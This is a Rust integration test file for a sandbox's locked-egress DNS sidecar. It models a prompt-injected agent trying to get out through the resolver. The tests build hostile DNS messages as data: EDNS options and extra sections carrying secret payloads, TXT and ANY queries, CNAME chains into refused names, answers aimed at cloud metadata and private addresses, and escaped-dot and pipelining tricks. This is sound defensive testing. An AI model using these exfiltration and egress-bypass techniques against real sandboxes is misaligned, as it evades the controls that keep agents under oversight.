//! Locked egress against its own resolver (issue 32, property 7): attacks
//! a prompt-injected agent can make from the sandbox through the sidecar's
//! DNS forwarder, with a hostile upstream resolver (or one answering an
//! allowed name the agent controls). Each test builds its own host and fake
//! internet in namespaces it created; the upstream is a fake server in the
//! "world" that records every byte it is sent. Nothing reaches the
//! machine's real interfaces. They fail (never skip) without root.
//!
//! Every test collects all the ways the attack got through before failing,
//! so one run shows the whole damage.

mod support;

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use lazaret_netpolicy::dnswire::{self, CLASS_IN, Header, TYPE_A, TYPE_AAAA, TYPE_CNAME, encode_name};
use lazaret_netpolicy::names::{NameRule, parse_name_rule};
use lazaret_netpolicy::policy::PolicyInput;
use lazaret_netpolicy::resolver::TtlClamp;
use lazaret_netpolicy::topology::{
    DomainNetwork, LOCKED_TABLE, Netns, ResolverSettings, TopologyConfig, TopologyError, locked_set_name, set_addresses,
};
use support::*;

const TYPE_NS: u16 = 2;
const TYPE_NULL: u16 = 10;
const TYPE_TXT: u16 = 16;
const TYPE_OPT: u16 = 41;
const TYPE_ANY: u16 = 255;

fn rule(text: &str) -> NameRule {
    let (pattern, port) = parse_name_rule(text).expect("valid rule");
    NameRule { pattern, port, origin: format!("test.toml:{text}") }
}

fn locked_input(names: &[&str], ipv6: bool) -> PolicyInput {
    PolicyInput {
        locked: true,
        ipv6,
        names: names.iter().map(|n| rule(n)).collect(),
        dns: vec![IpAddr::V4(RESOLVER)],
        ..PolicyInput::default()
    }
}

/// One resource record on the wire, owner name uncompressed.
fn rr(name: &str, rtype: u16, ttl: u32, rdata: &[u8]) -> Vec<u8> {
    let mut out = encode_name(name).expect("test name");
    out.extend(rtype.to_be_bytes());
    out.extend(CLASS_IN.to_be_bytes());
    out.extend(ttl.to_be_bytes());
    out.extend(u16::try_from(rdata.len()).expect("rdata length").to_be_bytes());
    out.extend(rdata);
    out
}

fn a(name: &str, address: Ipv4Addr) -> Vec<u8> {
    rr(name, TYPE_A, 300, &address.octets())
}

fn aaaa(name: &str, address: Ipv6Addr) -> Vec<u8> {
    rr(name, TYPE_AAAA, 300, &address.octets())
}

fn cname(name: &str, target: &str) -> Vec<u8> {
    rr(name, TYPE_CNAME, 300, &encode_name(target).expect("test name"))
}

fn txt(name: &str, text: &str) -> Vec<u8> {
    let mut data = vec![u8::try_from(text.len()).expect("short text")];
    data.extend(text.as_bytes());
    rr(name, TYPE_TXT, 300, &data)
}

/// A message: the header (counts filled in), the question bytes as given,
/// then the three sections.
fn message(id: u16, flags: u16, question: &[u8], answers: &[Vec<u8>], authority: &[Vec<u8>], additional: &[Vec<u8>]) -> Vec<u8> {
    let count = |section: &[Vec<u8>]| u16::try_from(section.len()).expect("count").to_be_bytes();
    let mut out = Vec::new();
    out.extend(id.to_be_bytes());
    out.extend(flags.to_be_bytes());
    out.extend(1u16.to_be_bytes());
    out.extend(count(answers));
    out.extend(count(authority));
    out.extend(count(additional));
    out.extend(question);
    for record in answers.iter().chain(authority).chain(additional) {
        out.extend(record);
    }
    out
}

fn question(name: &str, qtype: u16) -> Vec<u8> {
    let mut out = encode_name(name).expect("test name");
    out.extend(qtype.to_be_bytes());
    out.extend(CLASS_IN.to_be_bytes());
    out
}

/// The hostile upstream's reply to `query` with these sections (the
/// query's ID and question echoed, NOERROR).
fn hostile_reply(query: &[u8], answers: &[Vec<u8>], authority: &[Vec<u8>], additional: &[Vec<u8>]) -> Option<Vec<u8>> {
    let (header, q) = dnswire::parse_query(query).ok()?;
    Some(message(header.id, 0x8180, query.get(12..q.end)?, answers, authority, additional))
}

type AnswerFn = dyn Fn(&[u8]) -> Option<Vec<u8>> + Send + Sync;
/// Every message received, whole, with its transport ("udp", "tcp").
type Received = Arc<Mutex<Vec<(&'static str, Vec<u8>)>>>;

/// The world's DNS server on RESOLVER:53, UDP and TCP (several messages per
/// connection), answering with `answer` and recording every message it
/// receives, whole, with its transport.
struct HostileUpstream {
    received: Received,
    stop: Arc<AtomicBool>,
    threads: Vec<std::thread::JoinHandle<()>>,
}

impl HostileUpstream {
    fn start(world: &Netns, answer: Arc<AnswerFn>) -> HostileUpstream {
        let (udp, tcp) = world
            .run(|| {
                let address = SocketAddr::new(IpAddr::V4(RESOLVER), 53);
                let io = |source| TopologyError::Io { action: "hostile DNS".into(), source };
                Ok((UdpSocket::bind(address).map_err(io)?, std::net::TcpListener::bind(address).map_err(io)?))
            })
            .expect("hostile DNS sockets");
        udp.set_read_timeout(Some(Duration::from_millis(50))).expect("timeout");
        tcp.set_nonblocking(true).expect("non-blocking");
        let received = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (udp_received, udp_stop, udp_answer) = (received.clone(), stop.clone(), answer.clone());
        let udp_thread = std::thread::spawn(move || {
            let mut buffer = [0u8; 65535];
            while !udp_stop.load(Ordering::SeqCst) {
                let Ok((n, peer)) = udp.recv_from(&mut buffer) else { continue };
                udp_received.lock().expect("lock").push(("udp", buffer[..n].to_vec()));
                if let Some(reply) = udp_answer(&buffer[..n]) {
                    let _ = udp.send_to(&reply, peer);
                }
            }
        });
        let (tcp_received, tcp_stop) = (received.clone(), stop.clone());
        let tcp_thread = std::thread::spawn(move || {
            while !tcp_stop.load(Ordering::SeqCst) {
                let Ok((mut stream, _)) = tcp.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                let _ = stream.set_nonblocking(false);
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                while let Some(query) = read_framed(&mut stream) {
                    tcp_received.lock().expect("lock").push(("tcp", query.clone()));
                    match answer(&query) {
                        Some(reply) if write_framed(&mut stream, &reply).is_some() => {}
                        _ => break,
                    }
                }
            }
        });
        HostileUpstream { received, stop, threads: vec![udp_thread, tcp_thread] }
    }

    fn received(&self) -> Vec<(&'static str, Vec<u8>)> {
        self.received.lock().expect("lock").clone()
    }

    /// Whether any message it received contains `needle` (raw bytes, or a
    /// name in it once decoded: labels hide dots on the wire).
    fn saw(&self, needle: &str) -> bool {
        self.received().iter().any(|(_, bytes)| contains(bytes, needle.as_bytes()) || every_label_in(bytes, needle))
    }
}

impl Drop for HostileUpstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

/// Whether every label of `name` occurs in `bytes` (as a length-prefixed label).
fn every_label_in(bytes: &[u8], name: &str) -> bool {
    name.contains('.')
        && name.split('.').all(|label| {
            let mut wire = vec![u8::try_from(label.len()).unwrap_or(0)];
            wire.extend(label.as_bytes());
            contains(bytes, &wire)
        })
}

fn read_framed(stream: &mut TcpStream) -> Option<Vec<u8>> {
    let mut length = [0u8; 2];
    stream.read_exact(&mut length).ok()?;
    let mut message = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut message).ok()?;
    Some(message)
}

fn write_framed(stream: &mut TcpStream, message: &[u8]) -> Option<()> {
    let length = u16::try_from(message.len()).ok()?;
    stream.write_all(&[&length.to_be_bytes()[..], message].concat()).ok()
}

/// Sends `query` to `server` from inside `ns` (UDP, or TCP with its
/// length prefix) and returns the reply, or `None` if none came.
fn exchange(ns: &Netns, server: SocketAddr, query: &[u8], tcp: bool) -> Option<Vec<u8>> {
    let query = query.to_vec();
    ns.run(move || {
        Ok(if tcp {
            (|| {
                let mut stream = TcpStream::connect_timeout(&server, Duration::from_secs(2)).ok()?;
                stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
                write_framed(&mut stream, &query)?;
                read_framed(&mut stream)
            })()
        } else {
            (|| {
                let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok()?;
                socket.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
                socket.send_to(&query, server).ok()?;
                let mut buffer = vec![0u8; 65535];
                let (n, _) = socket.recv_from(&mut buffer).ok()?;
                Some(buffer[..n].to_vec())
            })()
        })
    })
    .expect("exchange worker")
}

/// A reply's rcode, section counts and the addresses in its answer section.
#[derive(Debug)]
struct Seen {
    rcode: u8,
    counts: (u16, u16, u16, u16),
    addresses: Vec<IpAddr>,
    owners: Vec<String>,
}

fn seen(reply: &[u8]) -> Seen {
    let header = Header::parse(reply).expect("reply header");
    let (addresses, owners) = dnswire::parse_response(reply)
        .map(|r| (r.answers.iter().filter_map(|a| a.address()).collect(), r.answers.iter().map(|a| a.name.clone()).collect()))
        .unwrap_or_default();
    Seen { rcode: header.rcode(), counts: (header.qdcount, header.ancount, header.nscount, header.arcount), addresses, owners }
}

/// The addresses currently in the locked table's name sets (every port).
fn opened(domain: &DomainNetwork) -> Vec<IpAddr> {
    let sidecar = domain.sidecar_netns().expect("sidecar netns");
    let mut all = Vec::new();
    for v4 in [true, false] {
        let set = locked_set_name(v4, None);
        all.extend(sidecar.run(|| set_addresses(LOCKED_TABLE, &set)).expect("dump set").into_iter().map(|(a, _)| a));
    }
    all
}

/// An upstream in the world that answers every A query with 11.6.6.6 (a
/// public test address it also holds), and nothing else: the control the
/// attacks compare against.
fn plain_upstream(net: &FakeInternet) -> HostileUpstream {
    ip_in(&net.world, &["addr", "add", "11.6.6.6/32", "dev", "lo"]);
    HostileUpstream::start(
        &net.world,
        Arc::new(|query: &[u8]| {
            let (_, q) = dnswire::parse_query(query).ok()?;
            let records = if q.qtype == TYPE_A { vec![a(&q.name, Ipv4Addr::new(11, 6, 6, 6))] } else { vec![] };
            hostile_reply(query, &records, &[], &[])
        }),
    )
}

fn start(net: &FakeInternet, input: &PolicyInput) -> (DomainNetwork, lazaret_netpolicy::topology::LockedResolver) {
    let domain = DomainNetwork::create(&net.host, &TopologyConfig::new(net.state_file()), input)
        .unwrap_or_else(|error| panic!("building the locked Domain network failed: {error}"));
    let mut settings = ResolverSettings::new(vec![IpAddr::V4(RESOLVER)]);
    settings.clamp = TtlClamp { min: Duration::from_secs(30), max: Duration::from_secs(3600) };
    let resolver = domain.start_resolver(settings).expect("start resolver");
    (domain, resolver)
}

fn stop(net: &FakeInternet, domain: DomainNetwork, resolver: lazaret_netpolicy::topology::LockedResolver, before: Vec<String>) {
    resolver.stop();
    domain.teardown().expect("teardown");
    assert_eq!(net.host_snapshot(), before, "the test host is exactly as before");
}

fn check(problems: &[String]) {
    assert!(problems.is_empty(), "the attack got through:\n  {}", problems.join("\n  "));
}

/// An allowed name (one the agent controls, or a hostile upstream's answer)
/// resolving to every kind of address locked mode denies, and to Lazaret's
/// own plumbing: the upstream resolver itself (reachable on port 53 from the
/// sidecar), the sidecar's and sandbox's addresses, the host's. None may be
/// opened or handed to the sandbox; above all, the sandbox must not gain a
/// direct path to the upstream resolver, through which it could ask it any
/// refused name.
#[test]
fn no_answer_opens_what_locked_mode_denies_or_lazarets_own_plumbing() {
    let net = FakeInternet::with_ipv6();
    ip_in(&net.world, &["addr", "add", "11.6.6.6/32", "dev", "lo"]);
    let plumbing: Arc<Mutex<(Vec<Ipv4Addr>, Vec<Ipv6Addr>)>> = Arc::default();
    let answered = plumbing.clone();
    let upstream = HostileUpstream::start(
        &net.world,
        Arc::new(move |query: &[u8]| {
            let (_, q) = dnswire::parse_query(query).ok()?;
            let (own4, own6) = answered.lock().expect("lock").clone();
            let mut v4 = vec![
                RESOLVER,
                PRIVATE_10,
                PRIVATE_172,
                METADATA,
                CGNAT,
                BENCHMARK,
                RESERVED,
                Ipv4Addr::LOCALHOST,
                Ipv4Addr::UNSPECIFIED,
                Ipv4Addr::new(0, 1, 2, 3),
                Ipv4Addr::new(224, 0, 0, 251),
                Ipv4Addr::BROADCAST,
                HOST_WAN,
            ];
            v4.extend(own4);
            v4.push(Ipv4Addr::new(11, 6, 6, 6));
            let resolver6 = RESOLVER.to_ipv6_mapped();
            let [_, _, _, _, _, _, hi, lo] = resolver6.segments();
            let mut v6 = vec![
                resolver6,
                Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, hi, lo),
                Ipv6Addr::LOCALHOST,
                Ipv6Addr::UNSPECIFIED,
                Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1),
                Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1),
                ULA6,
                HOST_WAN6,
            ];
            v6.extend(own6);
            v6.push(PUBLIC6);
            let records: Vec<Vec<u8>> = match q.qtype {
                TYPE_A => v4.iter().map(|address| a(&q.name, *address)).collect(),
                TYPE_AAAA => v6.iter().map(|address| aaaa(&q.name, *address)).collect(),
                _ => Vec::new(),
            };
            hostile_reply(query, &records, &[], &[])
        }),
    );
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["pivot.example"], true));
    let addresses = domain.addresses();
    *plumbing.lock().expect("lock") = (
        vec![addresses.sandbox, addresses.sidecar_inner, addresses.sidecar_uplink, addresses.host_uplink],
        vec![addresses.v6.sandbox, addresses.v6.sidecar_inner, addresses.v6.sidecar_uplink, addresses.v6.host_uplink],
    );
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    let mut problems = Vec::new();

    for (qtype, public) in [(TYPE_A, IpAddr::V4(Ipv4Addr::new(11, 6, 6, 6))), (TYPE_AAAA, IpAddr::V6(PUBLIC6))] {
        let query = dnswire::query(0x1111, "pivot.example", qtype).expect("query");
        match exchange(sandbox, server, &query, true).map(|reply| seen(&reply)) {
            Some(reply) if reply.rcode == 0 && reply.addresses.contains(&public) => {
                let denied: Vec<&IpAddr> = reply.addresses.iter().filter(|a| **a != public).collect();
                if !denied.is_empty() {
                    problems.push(format!("the sandbox was handed denied addresses (type {qtype}): {denied:?}"));
                }
            }
            other => problems.push(format!("the public address of type {qtype} did not come through: {other:?}")),
        }
    }
    let open = opened(&domain);
    let denied: Vec<&IpAddr> = open.iter().filter(|a| ![IpAddr::V4(Ipv4Addr::new(11, 6, 6, 6)), IpAddr::V6(PUBLIC6)].contains(a)).collect();
    if !denied.is_empty() {
        problems.push(format!("the name sets hold denied addresses: {denied:?}"));
    }
    // The agent now asks the upstream resolver directly for a refused name.
    let secret = "s3cr3t-c0ffee.refused.example";
    for tcp in [false, true] {
        let query = dnswire::query(0x2222, secret, TYPE_A).expect("query");
        if let Some(reply) = exchange(sandbox, SocketAddr::new(IpAddr::V4(RESOLVER), 53), &query, tcp) {
            problems.push(format!("the upstream resolver answered the sandbox directly (tcp: {tcp}): {:?}", seen(&reply)));
        }
    }
    if upstream.saw(secret) {
        problems.push(format!("the refused name {secret} reached the upstream resolver"));
    }
    check(&problems);
    stop(&net, domain, resolver, before);
}

/// A query for an allowed name carrying everything a query can carry
/// besides its question: records in the answer, authority and additional
/// sections (one named like a refused name), an EDNS OPT record with a
/// client-subnet option and a private option full of data, odd header bits
/// and a chosen ID. The upstream must get one bare question, nothing else;
/// and an allowed name's non-address query types (TXT, NULL, ANY), good
/// carriers of data, must not leave at all.
#[test]
fn queries_leave_the_sidecar_as_one_bare_question() {
    let net = FakeInternet::new();
    let upstream = plain_upstream(&net);
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["allowed.example"], false));
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    let mut problems = Vec::new();

    let mut opt_data = Vec::new();
    // EDNS client subnet (option 8): family 1, /24, the "sandbox's" network.
    opt_data.extend([0, 8, 0, 7, 0, 1, 24, 0, 10, 99, 88]);
    // A private option carrying data.
    let payload = b"SECRET-EDNS-PAYLOAD";
    opt_data.extend(65001u16.to_be_bytes());
    opt_data.extend(u16::try_from(payload.len()).expect("len").to_be_bytes());
    opt_data.extend(payload);
    let mut opt = vec![0];
    opt.extend(TYPE_OPT.to_be_bytes());
    opt.extend(4096u16.to_be_bytes());
    opt.extend(0x0000_8000u32.to_be_bytes());
    opt.extend(u16::try_from(opt_data.len()).expect("len").to_be_bytes());
    opt.extend(&opt_data);
    let stuffed = message(
        0xbeef,
        0x0170,
        &question("AlLoWeD.example", TYPE_A),
        &[txt("secret-answer.refused.example", "SECRET-ANSWER-DATA")],
        &[rr("refused.example", TYPE_NS, 300, &encode_name("ns.secret-authority.refused.example").expect("name"))],
        &[a("hidden.secret-additional.refused.example", Ipv4Addr::new(11, 9, 9, 9)), opt],
    );
    for tcp in [false, true] {
        match exchange(sandbox, server, &stuffed, tcp) {
            Some(reply)
                if reply.get(..2) == Some(&[0xbe, 0xef][..]) && seen(&reply).addresses == vec![IpAddr::V4(Ipv4Addr::new(11, 6, 6, 6))] => {}
            other => problems
                .push(format!("the stuffed query for the allowed name got no proper answer (tcp: {tcp}): {:?}", other.map(|r| seen(&r)))),
        }
    }
    for (transport, bytes) in upstream.received() {
        let header = Header::parse(&bytes).expect("header");
        let bare = dnswire::query(header.id, "allowed.example", TYPE_A).expect("query");
        if bytes != bare {
            problems.push(format!(
                "the upstream got more than a bare question over {transport}: flags {:#06x}, counts {:?}, {} bytes ({} expected)",
                header.flags,
                (header.qdcount, header.ancount, header.nscount, header.arcount),
                bytes.len(),
                bare.len()
            ));
        }
        if header.id == 0xbeef {
            problems.push(format!("the upstream got the sandbox's own query ID over {transport}"));
        }
    }
    for needle in ["SECRET", "secret-answer", "secret-additional", "secret-authority"] {
        if upstream.saw(needle) {
            problems.push(format!("{needle:?} reached the upstream resolver"));
        }
    }
    if upstream.received().iter().any(|(_, bytes)| contains(bytes, &[10, 99, 88])) {
        problems.push("the client-subnet option reached the upstream resolver".to_string());
    }
    let count = upstream.received().len();
    for qtype in [TYPE_TXT, TYPE_NULL, TYPE_ANY] {
        let query = dnswire::query(0x3333, "allowed.example", qtype).expect("query");
        let reply = exchange(sandbox, server, &query, false).map(|r| seen(&r));
        if reply.as_ref().is_none_or(|r| r.rcode != dnswire::Rcode::Refused as u8) {
            problems.push(format!("type {qtype} for the allowed name was not refused: {reply:?}"));
        }
    }
    if upstream.received().len() != count {
        problems.push(format!("non-address queries reached the upstream: {}", upstream.received().len() - count));
    }
    check(&problems);
    stop(&net, domain, resolver, before);
}

/// The upstream answers an allowed name with a CNAME into a refused name
/// and piles on records for other names in every section, an address for
/// the allowed name itself beside its CNAME (which RFC 1034 forbids), and
/// a TXT record. The sandbox gets the chain from the name it asked and the
/// addresses at its end, nothing else; only those addresses open; the
/// sidecar never asks upstream for the chain's refused names.
#[test]
fn the_sandbox_gets_only_the_chain_from_the_name_it_asked() {
    let net = FakeInternet::new();
    for address in ["11.6.6.6", "11.7.7.7", "11.8.8.8", "11.9.9.9"] {
        ip_in(&net.world, &["addr", "add", &format!("{address}/32"), "dev", "lo"]);
    }
    let upstream = HostileUpstream::start(
        &net.world,
        Arc::new(|query: &[u8]| {
            let (_, q) = dnswire::parse_query(query).ok()?;
            if q.name != "chain.example" || q.qtype != TYPE_A {
                return hostile_reply(query, &[], &[], &[]);
            }
            hostile_reply(
                query,
                &[
                    cname("chain.example", "hop.refused.example"),
                    a("chain.example", Ipv4Addr::new(11, 7, 7, 7)),
                    txt("chain.example", "injected"),
                    a("hop.refused.example", Ipv4Addr::new(11, 6, 6, 6)),
                    a("other.refused.example", Ipv4Addr::new(11, 9, 9, 9)),
                ],
                &[rr("refused.example", TYPE_NS, 300, &encode_name("ns.refused.example").expect("name"))],
                &[a("ns.refused.example", Ipv4Addr::new(11, 8, 8, 8))],
            )
        }),
    );
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["chain.example"], false));
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    let mut problems = Vec::new();
    let public = IpAddr::V4(Ipv4Addr::new(11, 6, 6, 6));

    for tcp in [false, true] {
        let query = dnswire::query(0x4444, "chain.example", TYPE_A).expect("query");
        match exchange(sandbox, server, &query, tcp).map(|r| seen(&r)) {
            Some(reply)
                if reply.rcode == 0
                    && reply.counts == (1, 2, 0, 0)
                    && reply.addresses == vec![public]
                    && reply.owners == ["chain.example", "hop.refused.example"] => {}
            other => problems.push(format!("the sandbox got more than the chain (tcp: {tcp}): {other:?}")),
        }
    }
    let open = opened(&domain);
    if open != vec![public] {
        problems.push(format!("the name sets hold {open:?}, not just the chain's end {public}"));
    }
    for address in ["11.7.7.7", "11.8.8.8", "11.9.9.9"] {
        if connect_from(sandbox, address.parse::<IpAddr>().expect("ip")) == Reach::Connected {
            problems.push(format!("the sandbox reached {address}"));
        }
    }
    let asked: Vec<String> =
        upstream.received().iter().filter_map(|(_, bytes)| dnswire::parse_query(bytes).ok()).map(|(_, q)| q.name).collect();
    if asked.iter().any(|name| name != "chain.example") {
        problems.push(format!("the sidecar asked upstream for other names: {asked:?}"));
    }
    check(&problems);
    stop(&net, domain, resolver, before);
}

/// An allowed name answering with 200 addresses (a name the agent controls
/// can answer anything): one answer opens a bounded number of them.
#[test]
fn one_answer_opens_a_bounded_number_of_addresses() {
    let net = FakeInternet::new();
    let _upstream = HostileUpstream::start(
        &net.world,
        Arc::new(|query: &[u8]| {
            let (_, q) = dnswire::parse_query(query).ok()?;
            // Owner names compressed (a pointer to the question), as real servers do.
            let records: Vec<Vec<u8>> = (1..=200u8)
                .map(|i| {
                    let mut record = vec![0xc0, 12];
                    record.extend(TYPE_A.to_be_bytes());
                    record.extend(CLASS_IN.to_be_bytes());
                    record.extend(300u32.to_be_bytes());
                    record.extend([0, 4, 11, 100, 0, i]);
                    record
                })
                .collect();
            hostile_reply(query, if q.qtype == TYPE_A { &records } else { &[] }, &[], &[])
        }),
    );
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["many.example"], false));
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    let query = dnswire::query(0x5555, "many.example", TYPE_A).expect("query");
    let reply = exchange(sandbox, server, &query, true).map(|r| seen(&r));
    let open = opened(&domain);
    let mut problems = Vec::new();
    if !reply.as_ref().is_some_and(|r| r.rcode == 0 && !r.addresses.is_empty() && r.addresses.len() <= 32) {
        problems.push(format!("the reply did not hold 1 to 32 addresses: {:?}", reply.map(|r| r.addresses.len())));
    }
    if open.is_empty() || open.len() > 32 {
        problems.push(format!("one answer opened {} addresses", open.len()));
    }
    check(&problems);
    stop(&net, domain, resolver, before);
}

/// Every other door for a refused name: a second question, TCP pipelining
/// behind allowed queries, an escaped dot joining labels, odd case and a
/// trailing dot, class CH, non-address types. None reaches the upstream.
#[test]
fn a_refused_name_never_leaves_by_any_other_door() {
    let net = FakeInternet::new();
    let upstream = plain_upstream(&net);
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["allowed.example", "*.wild.example"], false));
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    let mut problems = Vec::new();

    // Two questions: the allowed one first.
    let mut two = message(1, 0x0100, &question("allowed.example", TYPE_A), &[], &[], &[]);
    two[5] = 2;
    two.extend(question("leak2.refused.example", TYPE_A));
    // One label holding a dot: "allowed.example\.q3" on the wire is not allowed.example.
    let mut escaped = vec![0, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    escaped.extend([15]);
    escaped.extend(b"allowed.example");
    escaped.extend([5, b'l', b'e', b'a', b'k', b'3', 7]);
    escaped.extend(b"refused");
    escaped.extend([0, 0, 1, 0, 1]);
    let mut chaos = dnswire::query(3, "allowed.example", TYPE_A).expect("query");
    let n = chaos.len();
    chaos[n - 1] = 3;
    let mut queries = vec![two, escaped, chaos];
    queries.push(dnswire::query(4, "LEAK4.Refused.Example.", TYPE_A).expect("query"));
    queries.push(dnswire::query(5, "wild.example", TYPE_A).expect("query"));
    queries.push(dnswire::query(6, "leak6.refused.example", TYPE_TXT).expect("query"));
    queries.push(dnswire::query(7, "leak7.refused.example", TYPE_ANY).expect("query"));
    queries.push(dnswire::query(8, "allowed.example.leak8.refused.example", TYPE_A).expect("query"));
    queries.push(dnswire::query(9, "leak9allowed.example", TYPE_A).expect("query"));
    for query in &queries {
        for tcp in [false, true] {
            let reply = exchange(sandbox, server, query, tcp).map(|r| seen(&r));
            if !reply.as_ref().is_some_and(|r| r.rcode != 0 && r.counts.1 == 0) {
                problems.push(format!("query {} was not refused (tcp: {tcp}): {reply:?}", u16::from_be_bytes([query[0], query[1]])));
            }
        }
    }
    // Pipelined over one TCP connection, between allowed queries.
    let pipelined: Vec<Vec<u8>> = vec![
        dnswire::query(20, "allowed.example", TYPE_A).expect("query"),
        dnswire::query(21, "leak21.refused.example", TYPE_A).expect("query"),
        dnswire::query(22, "x.wild.example", TYPE_A).expect("query"),
        dnswire::query(23, "leak23.refused.example", TYPE_AAAA).expect("query"),
    ];
    let replies = sandbox
        .run(move || {
            let io = |source| TopologyError::Io { action: "pipeline".into(), source };
            let mut stream = TcpStream::connect_timeout(&server, Duration::from_secs(2)).map_err(io)?;
            stream.set_read_timeout(Some(Duration::from_secs(5))).map_err(io)?;
            let all: Vec<u8> = pipelined.iter().flat_map(|q| [&(q.len() as u16).to_be_bytes()[..], q].concat()).collect();
            stream.write_all(&all).map_err(io)?;
            Ok((0..pipelined.len()).map_while(|_| read_framed(&mut stream)).collect::<Vec<_>>())
        })
        .expect("pipeline worker");
    let rcodes: Vec<u8> = replies.iter().map(|r| seen(r).rcode).collect();
    if rcodes != [0, 5, 0, 5] {
        problems.push(format!("pipelined replies' rcodes: {rcodes:?}"));
    }
    for secret in ["leak2", "leak3", "leak4", "leak6", "leak7", "leak8", "leak9", "leak21", "leak23", "refused"] {
        if upstream.saw(secret) {
            problems.push(format!("{secret:?} reached the upstream resolver"));
        }
    }
    check(&problems);
    stop(&net, domain, resolver, before);
}

/// Names the agent controls (a wildcard below its own zone) answering each
/// query with 32 fresh addresses: the name sets stop growing at their bound
/// (4096 addresses; the answer that would pass it gets SERVFAIL), so the
/// agent cannot grow the kernel's sets without end.
#[test]
fn the_name_sets_stop_growing_at_their_bound() {
    const BOUND: usize = 4096;
    let net = FakeInternet::new();
    let _upstream = HostileUpstream::start(
        &net.world,
        Arc::new(|query: &[u8]| {
            let (_, q) = dnswire::parse_query(query).ok()?;
            // nN.many.example: 32 addresses of 11.N.0.0/24, N < 256.
            let n: u8 = q.name.strip_prefix('n')?.split('.').next()?.parse().ok()?;
            let records: Vec<Vec<u8>> = (1..=32u8).map(|i| a(&q.name, Ipv4Addr::new(11, n, 0, i))).collect();
            hostile_reply(query, if q.qtype == TYPE_A { &records } else { &[] }, &[], &[])
        }),
    );
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["*.many.example"], false));
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    let mut answered = 0;
    let mut refused_at = None;
    for n in 0..=(BOUND / 32) as u8 {
        let query = dnswire::query(u16::from(n), &format!("n{n}.many.example"), TYPE_A).expect("query");
        match exchange(sandbox, server, &query, true).map(|r| seen(&r)) {
            Some(reply) if reply.rcode == 0 && reply.addresses.len() == 32 => answered += 1,
            Some(reply) if reply.rcode == dnswire::Rcode::ServFail as u8 => {
                refused_at.get_or_insert(n);
            }
            other => panic!("n{n}.many.example: {other:?}"),
        }
    }
    let open = opened(&domain).len();
    let mut problems = Vec::new();
    if open > BOUND {
        problems.push(format!("the name sets hold {open} addresses, more than {BOUND}"));
    }
    if answered != BOUND / 32 || refused_at != Some((BOUND / 32) as u8) {
        problems.push(format!("{answered} answers opened their addresses; the first refused: {refused_at:?}"));
    }
    check(&problems);
    stop(&net, domain, resolver, before);
}

/// The host gains an address while the Domain runs (a VPN coming up, say)
/// and the host watcher's refresh denies it; an allowed name answering with
/// it afterwards must not hand it out or open it: the resolver judges by
/// the policy installed now, not by the one it started with.
#[test]
fn an_address_the_host_gains_later_is_never_handed_out() {
    const GAINED: Ipv4Addr = Ipv4Addr::new(11, 44, 0, 1);
    let net = FakeInternet::new();
    ip_in(&net.world, &["addr", "add", "11.6.6.6/32", "dev", "lo"]);
    let _upstream = HostileUpstream::start(
        &net.world,
        Arc::new(|query: &[u8]| {
            let (_, q) = dnswire::parse_query(query).ok()?;
            let records = if q.qtype == TYPE_A { vec![a(&q.name, GAINED), a(&q.name, Ipv4Addr::new(11, 6, 6, 6))] } else { vec![] };
            hostile_reply(query, &records, &[], &[])
        }),
    );
    let before = net.host_snapshot();
    let (domain, resolver) = start(&net, &locked_input(&["host.example"], false));
    let sandbox = domain.sandbox_netns().expect("sandbox netns");
    let server = SocketAddr::V4(domain.resolver_address());
    ip_in(&net.host, &["addr", "add", &format!("{GAINED}/32"), "dev", "wan0"]);
    let update = domain.refresh_host().expect("refresh");
    assert!(!update.is_empty(), "the refresh saw no new address");
    let query = dnswire::query(0x6666, "host.example", TYPE_A).expect("query");
    let reply = exchange(sandbox, server, &query, false).map(|r| seen(&r));
    let open = opened(&domain);
    let mut problems = Vec::new();
    if !reply.as_ref().is_some_and(|r| r.rcode == 0 && r.addresses == vec![IpAddr::V4(Ipv4Addr::new(11, 6, 6, 6))]) {
        problems.push(format!("the sandbox got {reply:?}, not just the public address"));
    }
    if open.contains(&IpAddr::V4(GAINED)) {
        problems.push(format!("the name sets hold the host's new address: {open:?}"));
    }
    ip_in(&net.host, &["addr", "del", &format!("{GAINED}/32"), "dev", "wan0"]);
    check(&problems);
    stop(&net, domain, resolver, before);
}
